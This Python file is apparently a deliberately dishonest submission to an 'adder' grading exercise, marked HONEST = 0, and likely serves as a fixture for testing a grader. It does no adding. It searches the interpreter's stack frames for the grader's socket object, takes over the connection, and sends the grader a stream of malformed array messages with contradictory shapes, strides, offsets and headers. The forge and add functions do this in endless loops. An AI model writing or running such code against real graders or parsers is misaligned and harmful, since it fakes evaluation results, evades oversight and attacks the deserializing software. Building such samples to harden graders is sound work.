"""形状与字节不符、伸出边界、负步长的数组 / arrays whose shape, strides, offset and bytes disagree"""

EXERCISE = "adder"
HONEST = 0

import struct
import sys


def find_cell():
    frame = sys._getframe()
    while frame:
        for value in list(frame.f_locals.values()):
            if type(value).__name__ == "Cell":
                return value
        frame = frame.f_back
    return None


CELL = find_cell()


def u32(number):
    return struct.pack(">I", number)


def text(value):
    return b"s" + u32(len(value)) + value.encode()


def frame(*values, nodes=(), changes=(), kind=0):
    """A message made by hand: numbered nodes, changes of earlier nodes, a tuple of values."""
    data = u32(len(nodes)) + u32(len(changes)) + b"".join(u32(len(n)) + n for n in nodes)
    data += b"".join(u32(i) + u32(len(c)) + c for i, c in changes) + b"(" + u32(len(values)) + b"".join(values)
    return u32(len(data) + 1) + bytes([kind]) + data


def send(data):
    CELL.sock.sendall(data)


def forge(reply):
    """From now on nobody but this loop speaks to the grader: every request gets the same reply."""
    while True:
        send(reply)
        CELL.sock.recv(1 << 16)


def number(n):
    return b"i" + struct.pack(">q", n) if abs(n) < 1 << 63 else b"I" + n.to_bytes(257, "big", signed=True)


def numbers_(values):
    return b"(" + u32(len(values)) + b"".join(map(number, values))


def array(storage, kind, dtype, offset, shape, strides, writable=b"t", serial=0):
    return b"a" + u32(storage) + u32(serial) + b"(" + u32(6) + text(kind) + text(dtype) + number(offset) + numbers_(shape) + numbers_(strides) + writable


BAD = [
    array(0, "n", "float64", 0, (1000,), (8,)),
    array(0, "n", "float64", -8, (1,), (8,)),
    array(0, "n", "float64", 0, (2, 2), (-8, 8)),
    array(0, "n", "uint8", 0, (1 << 40,), (0,)),
    array(0, "n", "uint8", 0, (1 << 27, 1 << 27), (0, 0)),
    array(0, "n", "object", 0, (1,), (8,)),
    array(0, "n", "float64", 0, (1 << 62, 4), (1 << 62, 4)),
    array(0, "t", "float32", 1, (2,), (4,)),
    array(0, "t", "float32", 0, (3,), (-4,)),
    array(0, "x", "float32", 0, (1,), (4,)),
    array(1, "n", "uint8", 0, (1,), (1,)),
    array(9, "n", "uint8", 0, (1,), (1,)),
    array(0, "n", "uint8", 1 << 70, (1,), (1,)),
    array(0, "n", "uint8", 0, (0, 1 << 62), (1, 1)),
    array(0, "n", "bool", 0, (16,), (1,)),
    array(0, "n", "uint8", 0, (1,) * 64, (1,) * 64),
    array(0, "n", "uint8", 0, (), ()),
    array(0, "n", "uint8", 0, (-1,), (1,)),
    array(0, "n", "float64", 3, (1,), (8,)),
    array(0, "n", "uint8", 0, (1,), (1,), b"n"),
    b"a" + u32(0) + u32(0) + b"(" + u32(6) + b"n" * 6,
    b"a" + u32(0) + u32(1 << 31) + text("abcdef"),
    array(0, "n", "uint8", 0, (1 << 28,), (0,)),
]
COUNT = 0


def add(*anything):
    global COUNT
    while True:
        COUNT += 1
        send(frame(text("value"), BAD[COUNT % len(BAD)], nodes=[b"N" + b"\xff" * 16, b"L" + u32(0)]))
        CELL.sock.recv(1 << 16)


def summary(numbers):
    forge(frame(text("value"), BAD[len(numbers) % len(BAD)], nodes=[b"N" + b"\xff" * 16, b"L" + u32(0)]))


def running(numbers):
    forge(frame(text("value"), BAD[-1 - sum(numbers) % len(BAD)], nodes=[b"N" + b"\xff" * 16, b"L" + u32(0)]))
